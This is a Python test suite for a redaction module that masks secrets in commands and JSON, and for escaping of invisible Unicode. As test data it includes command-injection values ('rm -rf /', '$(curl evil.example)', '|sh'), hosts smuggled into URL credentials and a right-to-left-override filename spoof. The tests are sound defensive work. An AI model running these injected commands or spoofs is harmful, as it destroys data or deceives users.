"""No secret is shown, and nothing but a secret is hidden; no character that cannot be seen goes by unseen."""

from __future__ import annotations

import json
import re
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from core.redaction import Redaction, is_secret_name
from core.visible import visible, visible_json

REDACTION = Redaction(b"a key of the installation")
MARK = re.compile(r"\[hidden: [0-9]+ characters?, #[0-9a-f]{6}\]")
RUN = "ABCXYZabcxyz0189._~+/=-"


def hidden(text: str) -> str:
    """The redacted text with every mark as a star."""
    return MARK.sub("*", REDACTION.text(text))


# Secrets inside text


def test_w3_no_token_of_a_curl_command_is_shown() -> None:
    command = 'curl -H "Authorization: Bearer sk-live-0123456789" https://api.example/v1 -d @body.json'
    shown = REDACTION.text(command)
    assert "sk-live" not in shown
    assert shown == command.replace("sk-live-0123456789", REDACTION.hide("sk-live-0123456789"))
    assert re.fullmatch(r"\[hidden: 18 characters, #[0-9a-f]{6}\]", REDACTION.hide("sk-live-0123456789"))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Authorization: Basic dXNlcjpwYXNz", "Authorization: Basic *"),
        ("authorization:abc123", "authorization:*"),
        ("Proxy-Authorization: Bearer abc", "Proxy-Authorization: Bearer *"),
        ("Authorization: Custom 0123456789abcdef", "Authorization: * *"),
        ('Authorization: Digest username="ann", response="0a1b"', 'Authorization: Digest username="*", response="*"'),
        ("Authorization: AWS4-HMAC-SHA256 Credential=A/b, SignedHeaders=host;x-a, Signature=ff",
         "Authorization: AWS4-HMAC-SHA256 Credential=*, SignedHeaders=*;x-a, Signature=*"),
        ("X-Auth: Bearer 0123456789abcdef", "X-Auth: Bearer *"),
        ("Cookie: a=b; c=d", "Cookie: a=*; c=*"),
        ("Set-Cookie: sid=abc; Path=/", "Set-Cookie: sid=*; Path=*"),
        ("--cookie 'a=b; c=d'", "--cookie 'a=*; c=*'"),
        ("X-Api-Key: k1", "X-Api-Key: *"),
        ("--password=hunter2", "--password=*"),
        ("--token abc --verbose", "--token * --verbose"),
        ("-password abc", "-password *"),
        ("API_KEY=abc make", "API_KEY=* make"),
        ("export PGPASSWORD='abc'", "export PGPASSWORD='*'"),
        ("password = abc", "password = *"),
        ("password: abc", "password: *"),
        ("'secret' => 'abc'", "'secret' => '*'"),
        ('{"api_key":"abc","n":1}', '{"api_key":"*","n":1}'),
        (r"{\"accessToken\": \"abc\"}", r"{\"accessToken\": \"*\"}"),
        ("//registry.example/:_authToken=abc", "//registry.example/:_authToken=*"),
        ("https://ann:pa55@host.example/x", "https://ann:*@host.example/x"),
        ("https://ghp_0123456789abcdefghij@host.example", "https://*@host.example"),
        ("https://h/?access_token=abc&x=1#top", "https://h/?access_token=*&x=1#top"),
        ("https://h/?X-Amz-Signature=ff00", "https://h/?X-Amz-Signature=*"),
        ("curl -u ann:pa55 https://h", "curl -u ann:* https://h"),
        ("curl --user=ann:pa55 https://h", "curl --user=ann:* https://h"),
        ("PASSWORD=ab!cd%20ef", "PASSWORD=*!*%*"),
    ],
)  # fmt: skip
def test_the_values_of_secret_names_are_hidden(text: str, shown: str) -> None:
    assert hidden(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "max_tokens=4096 and tokens: 100, token_count=5",
        "the password policy: at least 12",
        "use_token=true password=none",
        "--token --verbose",
        "Authorization: Bearer $TOKEN",
        "docker run -u 1000:1000 image",
        "the secretary wrote: hello",
        "public_key=abc and key=value",
        "https://host.example:443/path@2x.png",
        "cookie_policy=strict",
    ],
)
def test_what_is_no_secret_stays(text: str) -> None:
    assert REDACTION.text(text) == text


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("--token abc;rm -rf /", ";rm -rf /"),
        ("--token $(curl evil.example)", "$(curl evil.example)"),
        ("TOKEN=abc`id`", "`id`"),
        ("TOKEN=abc|sh", "|sh"),
        ("TOKEN=abc&&reboot", "&&reboot"),
        ("TOKEN=abc>out.txt", ">out.txt"),
        ("TOKEN=abc\nreboot", "\nreboot"),
        ("PASSWORD= rm -rf /", " rm -rf /"),
        ("env 'PASSWORD=' rm 'x'", " rm "),
        ("--password 'a' rm", "' rm"),
        ("TOKEN=a,b:reboot", ",b:reboot"),
        ("git clone https://token=abc@evil.example/x", "@evil.example/x"),
        ("https://a:b@evil.example@good.example/", "evil.example"),
        ("Cookie: a=b; reboot", "; reboot"),
        ("Authorization: Bearer abc evil.example", " evil.example"),
    ],
)
def test_no_command_and_no_host_hides_behind_a_secret(text: str, kept: str) -> None:
    assert kept in REDACTION.text(text)


@given(
    st.sampled_from(
        ["--token ", "TOKEN=", "Authorization: Bearer ", "Cookie: a=", "https://u:", "password: ", "-u a:"]
    ),
    st.text(max_size=60),
)
def test_only_runs_of_plain_characters_are_ever_hidden(before: str, rest: str) -> None:
    text = before + rest
    shown = REDACTION.text(text)
    at = 0
    for piece in MARK.split(shown):
        # Doubled brackets are undone for the comparison; everything else must stand in the input, in order.
        piece = piece.replace("[[", "[")
        found = text.replace("[[", "[").find(piece, at)
        assert found >= 0
        assert set(text.replace("[[", "[")[at:found]) <= set(
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._~+/=-"
        )
        at = found + len(piece)


@given(st.text("\u200b\u200d\u2060\ufeff\u202e\u00ad\x00\x07", min_size=1, max_size=3), st.integers(1, 13))
def test_a_zero_width_character_in_a_name_does_not_show_the_secret(unseen: str, at: int) -> None:
    header = "Authorization"
    shown = visible(REDACTION.text(f"{header[:at]}{unseen}{header[at:]}: Bearer sk-0123456789"))
    assert "sk-0123456789" not in shown
    assert visible(unseen) in shown


def test_unseen_characters_inside_a_secret_are_not_hidden_with_it() -> None:
    assert MARK.sub("*", visible(REDACTION.text("--token ab\u200bcd; x"))) == r"--token *\u200b*; x"
    assert hidden("--token\u00a0abc") == "--token\u00a0*"


def test_every_hidden_value_shows_its_length_and_the_same_mark_for_the_same_secret() -> None:
    one, two = MARK.findall(REDACTION.text("--token abcdef --password abcdef"))
    other = MARK.findall(REDACTION.text("--token abcdeg"))[0]
    assert one == two != other
    assert one.startswith("[hidden: 6 characters, #")
    assert Redaction(b"another key").hide("abcdef") != REDACTION.hide("abcdef")


def test_a_text_cannot_pretend_that_something_is_hidden() -> None:
    fake = REDACTION.hide("abc")
    assert REDACTION.text(f"run {fake} now") == f"run [{fake} now"
    assert REDACTION.text("token:[[" + "x") == "token:[[x"
    marked = REDACTION.text("[TOKEN=abc [[hidden")
    assert marked == f"[TOKEN={REDACTION.hide('abc')} [[[[hidden"


def test_long_hostile_texts_are_read_once() -> None:
    # Each of these took minutes with a pattern that looked at every character again and again.
    for text in (
        "token=" * 20_000,
        "a=" * 60_000,
        "[" * 120_000,
        "Cookie: " + "a=b; " * 20_000,
        "token" + "\\" * 90_000,
    ):
        assert REDACTION.text(text)


# Secrets in arguments


SECRET_NAMES = (
    "authorization Authorization proxy-authorization PROXY_AUTHORIZATION cookie Set-Cookie cookies token accessToken "
    "access_token ACCESS-TOKEN auth.token refreshToken id_token secret clientSecret client-secret secret_key password "
    "Password passwd pwd PGPASSWORD db_password password2 newPassword password_confirmation passphrase apikey apiKey "
    "API_KEY x-api-key XApiKey api.key privateKey private_key signing-key aws_secret_access_key credentials tokens "
    "api_tokens DB_PASS SECRET_KEY_BASE sig"
)


@pytest.mark.parametrize("name", SECRET_NAMES.split())
def test_secret_names_in_any_spelling(name: str) -> None:
    assert is_secret_name(name)
    assert "hunter2" not in json.dumps(REDACTION.value({"a": [{name: "hunter2"}]}))


PLAIN_NAMES = (
    "token_count max_tokens total_tokens maxToken tokenizer token_type stop_token secretary cookie_policy "
    "password_policy public_key key keyboard author authority compass passage name value id access_key_id"
)


@pytest.mark.parametrize("name", PLAIN_NAMES.split())
def test_names_that_only_look_secret(name: str) -> None:
    assert not is_secret_name(name)
    assert REDACTION.value({name: "plain"}) == {name: "plain"}


def test_tokens_are_a_number_or_secrets() -> None:
    assert REDACTION.value({"tokens": 1024, "usage": {"tokens": "512"}}) == {"tokens": 1024, "usage": {"tokens": "512"}}
    assert REDACTION.value({"tokens": ["abc"]}) == {"tokens": [REDACTION.hide("abc")]}


def test_everything_under_a_secret_name_is_hidden_and_its_shape_stays() -> None:
    value = {"credentials": {"user": "ann", "pin": 1234, "more": ["x", None, True, ""]}, "n": 1.5}
    assert REDACTION.value(value) == {
        "credentials": {
            "user": REDACTION.hide("ann"),
            "pin": REDACTION.hide("1234"),
            "more": [REDACTION.hide("x"), None, True, ""],
        },
        "n": 1.5,
    }


def test_headers_flags_and_variables_given_as_lists_are_found() -> None:
    value = {
        "headers": [["Authorization", "Bearer abc"], ["Accept", "text/html"]],
        "argv": ["mysql", "--password", "a;b", "--verbose", "--token=abc"],
        "env": [{"name": "API_KEY", "value": "abc"}, {"name": "HOME", "value": "/root"}],
        "store": [{"Name": "/prod/db/password", "Value": "abc", "Type": "SecureString"}, {"Key": "team", "Value": "a"}],
        "with": [
            {"header": "Authorization", "value": "abc"},
            {"variable": "DB_PASSWORD", "val": "abc"},
            {"field": "password_policy", "value": "long"},
            {"name": 1, "key": "token", "value": "abc"},
        ],
    }
    shown = REDACTION.value(value)
    assert shown["headers"] == [["Authorization", REDACTION.hide("Bearer abc")], ["Accept", "text/html"]]
    assert [MARK.sub("*", word) for word in shown["argv"]] == ["mysql", "--password", "*;*", "--verbose", "--token=*"]
    assert shown["store"] == [{"Name": "/prod/db/password", "Value": REDACTION.hide("abc"), "Type": "SecureString"},
                              {"Key": "team", "Value": "a"}]  # fmt: skip
    hidden = REDACTION.hide("abc")
    assert shown["with"] == [{"header": "Authorization", "value": hidden}, {"variable": "DB_PASSWORD", "val": hidden},
                             {"field": "password_policy", "value": "long"},
                             {"name": 1, "key": "token", "value": hidden}]  # fmt: skip
    assert shown["env"] == [{"name": "API_KEY", "value": REDACTION.hide("abc")}, {"name": "HOME", "value": "/root"}]


def test_redaction_changes_nothing_that_runs() -> None:
    arguments = {"headers": {"Authorization": "Bearer abc"}, "list": ["--token", "abc"]}
    before = json.dumps(arguments)
    REDACTION.value(arguments)
    assert json.dumps(arguments) == before


# Visible text

JSON = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**53), 2**53) | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)
TRICKY = st.text(
    st.sampled_from("\\uUx0a2e \n\t\r\x00\u202e\u200b\u200d\ufe0f\u0301👍🏽👩💻#\u20e3é\U000e0041\u3000\u00a0[")
    | st.characters(),
    max_size=30,
)


@given(TRICKY, TRICKY, st.booleans())
@example("\\u202e", "\u202e", True)
@example("\\\u202e", "\\\\u202e", True)
@example("\\\\\u202e", "\\\u202e", True)
@example("\\U000e0041", "\U000e0041", True)
@example("\n", "\\u000a", False)
def test_different_texts_stay_different(one: str, two: str, lines: bool) -> None:
    assert (visible(one, lines=lines) == visible(two, lines=lines)) == (one == two)


def read_back(shown: str) -> str:
    """Undo `visible` with nothing but the shown text: what proves that it can be read in one way only."""

    def undo(found: re.Match[str]) -> str:
        slashes, rest = found[1], found[2]
        half = "\\" * (len(slashes) // 2)
        if len(slashes) % 2 == 0:
            return half + rest
        size = 5 if rest[0] == "u" else 9
        return half + chr(int(rest[1:size], 16)) + rest[size:]

    return re.sub(r"(\\+)(u[0-9a-f]{4}|U[0-9a-f]{8}|[uU])", undo, shown)


@given(TRICKY, st.booleans())
def test_visible_text_can_be_read_back(text: str, lines: bool) -> None:
    assert read_back(visible(text, lines=lines)) == text


@given(st.text())
def test_nothing_unseen_is_left(text: str) -> None:
    shown = visible(text, lines=False)
    for character in shown.replace("\u200d", "").replace("\ufe0f", "").replace("\t", "").replace("\u3000", ""):
        category = unicodedata.category(character)
        assert category not in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"), hex(ord(character))
        assert category != "Zs" or character == " "


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\u202egnp.exe", r"\u202egnp.exe"),
        ("a\u2066b\u2069\u200e\u200f\u061c", r"a\u2066b\u2069\u200e\u200f\u061c"),
        ("a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg", r"a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg"),
        ("x\U000e0041", r"x\U000e0041"),
        ("x\ufe01\U000e0100", r"x\ufe01\U000e0100"),
        ("a\u2028b\u2029c", r"a\u2028b\u2029c"),
        ("\x00\x1b[31m\x7f\x85", r"\u0000\u001b[31m\u007f\u0085"),
        ("\ue000\u0378", r"\ue000\u0378"),
        ("a\u00a0b\u3164c\u2800", r"a\u00a0b\u3164c\u2800"),
        ("a\r\nb\tc", "a\\u000d\nb\tc"),
        (r"C:\temp\new \user \Users", r"C:\temp\new \\user \\Users"),
        ("👩‍💻 ❤️ 👍🏽 🇬🇧 1️⃣ 👨‍👩‍👧", "👩‍💻 ❤️ 👍🏽 🇬🇧 1️⃣ 👨‍👩‍👧"),
        ("👍\u200dx", "👍\\u200dx"),
        ("a\ufe0f", r"a\ufe0f"),
        ("❤\ufe0f\ufe0f", "❤\ufe0f\\ufe0f"),
        ("e\u0301", "e\u0301"),
        ("\u0301e", r"\u0301e"),
        ("עברית и кириллица 日本語　です", "עברית и кириллица 日本語　です"),
    ],
)
def test_what_is_shown_for(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_a_flood_of_combining_marks_is_bounded() -> None:
    shown = visible("e" + "\u0301" * 50)
    assert shown == "e" + "\u0301" * 4 + r"\u0301" * 46


@given(JSON)
def test_visible_json_is_the_same_json(value: object) -> None:
    document = json.dumps(value, ensure_ascii=False, indent=2)
    shown = visible_json(document)
    assert json.loads(shown) == value
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff\u00ad\x00\U000e0000-\U000e007f]", shown)


def test_two_keys_whose_secrets_have_the_same_short_hash_are_both_shown() -> None:
    """With 24 bits of hash some of so many are the same; behind none of them may an argument vanish."""
    keys = [f"token={number:x}" for number in range(14_000)]
    assert len(REDACTION.value(dict.fromkeys(keys, True))) == 14_000
    assert len(REDACTION.value({"secret": dict.fromkeys(keys, True)})["secret"]) == 14_000
